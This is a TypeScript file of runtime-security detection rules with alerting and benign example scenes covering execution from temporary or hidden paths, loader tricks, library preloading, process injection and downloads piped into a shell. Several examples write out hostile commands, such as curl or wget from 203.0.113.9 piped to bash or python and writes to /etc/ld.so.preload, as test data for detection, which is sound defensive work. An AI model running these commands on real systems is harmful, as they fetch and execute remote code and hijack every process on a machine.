import { example, type RuleGuide } from '../rule-guide.ts';

const look =
  'Look at the file and at what brought it. What software writes for itself and runs earns an exception; a read-only root and noexec mounts end the rest.';

export const drift: readonly RuleGuide[] = [
  {
    rule: 'Program started from a temporary file system',
    act: look,
    alerts: [
      example('/tmp/payload, where /tmp is memory', (scene) => {
        scene.container().run('/tmp/payload', [], { layer: 'elsewhere' });
      }),
    ],
    silent: [
      example('a program of the image', (scene) => {
        scene.container().run('/usr/bin/ls');
      }),
      example('make, which runs what it has built', (scene) => {
        const make = scene.container().run('/usr/bin/make');
        make.run('/tmp/build/conftest', [], { layer: 'elsewhere' });
      }),
      example('a program of the host', (scene) => {
        scene.host().run('/tmp/installer/setup');
      }),
    ],
  },
  {
    rule: 'Script run from a directory for temporary files',
    act: look,
    alerts: [
      example('sh /tmp/x.sh', (scene) => {
        scene.container().run('/bin/sh', ['/tmp/x.sh']);
      }),
      example('cd /tmp; python3 ./x.py', (scene) => {
        scene.container().run('/usr/bin/python3.11', ['./x.py'], { cwd: '/tmp' });
      }),
    ],
    silent: [
      example('the script of a package', (scene) => {
        const apt = scene.container().run('/usr/bin/apt-get', ['install', 'x']);
        const dpkg = apt.run('/usr/bin/dpkg', ['--configure', 'x']);
        dpkg.run('/bin/sh', ['/var/lib/dpkg/info/x.postinst', 'configure']);
        dpkg.run('/bin/sh', ['/tmp/x.config.123', 'configure']);
      }),
      example("the image's own start script", (scene) => {
        scene.container().run('/bin/sh', ['/docker-entrypoint.sh', '/tmp/conf']);
      }),
    ],
  },
  {
    rule: 'Program hidden behind the loader',
    act: look,
    alerts: [
      example('/lib64/ld-linux-x86-64.so.2 /tmp/payload', (scene) => {
        const loader = '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2';
        scene.container().run(loader, ['/tmp/payload']);
      }),
      example('/lib/ld-musl-x86_64.so.1 ./payload', (scene) => {
        scene.container().run('/lib/ld-musl-x86_64.so.1', ['./payload']);
      }),
    ],
    silent: [
      example('ldd /usr/bin/ls', (scene) => {
        const loader = '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2';
        scene.container().run(loader, ['--verify', '/usr/bin/ls']);
      }),
    ],
  },
  {
    rule: 'Program started from a hidden directory',
    act: look,
    alerts: [
      example('/var/tmp/.x/y on the host', (scene) => {
        scene.host().run('/var/tmp/.x/y');
      }),
      example('/opt/.../x', (scene) => {
        scene.host().run('/opt/.../x');
      }),
    ],
    silent: [
      example('an AppImage', (scene) => {
        scene.host().run('/tmp/.mount_EditorAb1/AppRun');
      }),
      example('~/.local/bin/tool', (scene) => {
        scene.host().run('/root/.local/bin/tool');
      }),
    ],
  },
  {
    rule: 'Library forced into every program',
    act: 'Read the file with a statically linked program, as others cannot be trusted now. Treat the machine as broken into.',
    alerts: [
      example('echo /lib/x.so > /etc/ld.so.preload', (scene) => {
        scene.container().run('/bin/sh').write('/etc/ld.so.preload');
      }),
      example('the file put in place under its name', (scene) => {
        scene.host().run('/usr/bin/mv').rename('/tmp/p', '/etc/ld.so.preload');
      }),
    ],
    silent: [
      example('every program that looks whether it is there', (scene) => {
        scene.container().run('/usr/bin/ls').read('/etc/ld.so.preload');
      }),
      example('ldconfig', (scene) => {
        scene.container().run('/usr/sbin/ldconfig').write('/etc/ld.so.cache~');
      }),
    ],
  },
  {
    rule: 'Library forced into a program from a temporary directory',
    act: look,
    alerts: [
      example('LD_PRELOAD=/tmp/x.so sshd', (scene) => {
        scene.host().run('/usr/sbin/sshd', [], { env: ['LD_PRELOAD=/tmp/x.so'] });
      }),
    ],
    silent: [
      example('LD_PRELOAD=/usr/lib/libjemalloc.so.2', (scene) => {
        scene.container().run('/usr/bin/redis-server', [], {
          env: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'],
        });
      }),
    ],
  },
  {
    rule: 'Download run by a shell at once',
    act: 'Fetch what the address gives, and read it. What an image needs is put into it when it is built.',
    alerts: [
      example("sh -c 'curl -s http://203.0.113.9/i.sh | bash'", (scene) => {
        scene.container('/usr/bin/java').shell('curl -s http://203.0.113.9/i.sh | bash');
      }),
      example('bash -c "bash <(wget -qO- http://203.0.113.9/i.sh)"', (scene) => {
        const line = 'bash <(wget -qO- http://203.0.113.9/i.sh)';
        scene.container().run('/bin/bash', ['-c', line]);
      }),
      example('wget … | python3', (scene) => {
        scene.container().shell('wget -qO- http://203.0.113.9/i.py | python3 -');
      }),
    ],
    silent: [
      example('the same as the first process: a line of a Dockerfile', (scene) => {
        scene
          .container('/usr/bin/runc')
          .exec('/bin/sh', ['-c', 'curl -sSf https://sh.example | sh -s -- -y']);
      }),
      example('curl -s http://localhost/health | grep ok', (scene) => {
        scene.container().shell('curl -s http://localhost/health | grep ok');
      }),
    ],
  },
  {
    rule: 'Code put into another process',
    act: 'End the process that was written to, not only the one that wrote. Drop CAP_SYS_PTRACE.',
    alerts: [
      example('ptrace of the application', (scene) => {
        const application = scene.container();
        application.run('/opt/inject', [], { layer: 'image' }).trace(application);
      }),
      example('/proc/7/mem opened for writing', (scene) => {
        scene.container().run('/opt/inject').write('/proc/7/mem');
      }),
    ],
    silent: [
      example('a program that lets itself be traced', (scene) => {
        const application = scene.container();
        application.run('/opt/child').trace(application, 'beTraced');
      }),
      example('a debugger', (scene) => {
        const application = scene.container();
        application.run('/usr/bin/gdb').trace(application);
      }),
      example('on the host', (scene) => {
        const shell = scene.host();
        shell.run('/opt/profiler').trace(shell);
      }),
    ],
  },
];
